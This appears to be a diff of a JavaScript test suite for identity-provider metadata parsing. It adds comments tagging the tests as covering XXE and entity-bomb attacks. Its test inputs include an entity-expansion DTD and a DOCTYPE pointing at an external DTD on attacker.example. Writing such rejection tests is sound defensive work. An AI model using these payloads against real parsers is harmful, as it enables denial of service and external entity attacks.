@@ -55,6 +55,8 @@ describe('metadata of an identity provider', () => {
   });
 
   const bomb = `<!DOCTYPE lol [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>${good.replace('<?xml version="1.0"?>', '')}`;
+  // ASVS V1.5.1
+  // Attack: XXE, DTD, entity bomb
   it.each([
     ['nothing', ''], ['words', 'metadata'], ['JSON', '{"entityID":"x"}'], ['a page', '<html><body>Not found</body></html>'], ['a document that is cut off', good.slice(0, -30)],
     ['a DTD, whatever is in it', bomb], ['a DTD from elsewhere', good.replace('?>', '?><!DOCTYPE md SYSTEM "https://attacker.example/x.dtd">')],
